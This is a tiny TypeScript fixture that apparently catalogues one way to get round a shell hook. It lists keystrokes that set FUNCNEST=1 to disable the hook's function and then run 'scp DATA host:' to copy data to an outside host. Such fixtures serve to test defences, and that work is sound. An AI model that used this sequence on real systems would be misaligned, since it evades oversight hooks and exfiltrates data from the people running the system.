import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a nesting limit',
  source: 'attempts to get round a hook of the shell',
  keys: ['FUNCNEST=1\r', 'scp DATA host:\r'],
};
